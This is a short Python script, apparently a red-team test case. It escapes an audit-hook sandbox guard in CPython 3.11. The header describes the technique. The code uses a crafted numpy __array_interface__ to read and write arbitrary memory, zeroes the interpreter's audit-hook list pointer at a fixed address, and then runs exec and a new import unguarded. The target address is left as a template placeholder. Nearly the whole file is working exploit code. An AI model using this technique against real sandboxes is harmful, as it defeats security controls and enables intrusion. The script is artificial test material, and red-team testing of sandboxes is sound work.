# technique: /usr/bin/python3.11 is not position-independent, so the interpreter's audit-hook list pointer sits at a fixed address; one 8-byte numpy __array_interface__ write empties it (no audit event), then code the guard refuses (exec of new code, a new import) runs unguarded
# goal: syscall
# redteam: E25 E62 E64
import numpy as np
import pandas as pd

HOOKS = {{AUDIT_HOOKS_ADDR}}


class RawView:
    def __init__(self, address, size):
        self.__array_interface__ = {"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}


def peek(address):
    return int(np.asarray(RawView(address, 8)).view(np.uint64)[0])


def poke(address, value):
    np.asarray(RawView(address, 8)).view(np.uint64)[0] = value


if HOOKS == 0 or peek(HOOKS) == 0:
    raise PermissionError("no audit hook list to clear")
poke(HOOKS, 0)
scope = {}
exec("import wave\nloaded = wave.__name__", scope)
df = pd.DataFrame({"unguarded": [scope["loaded"]]})
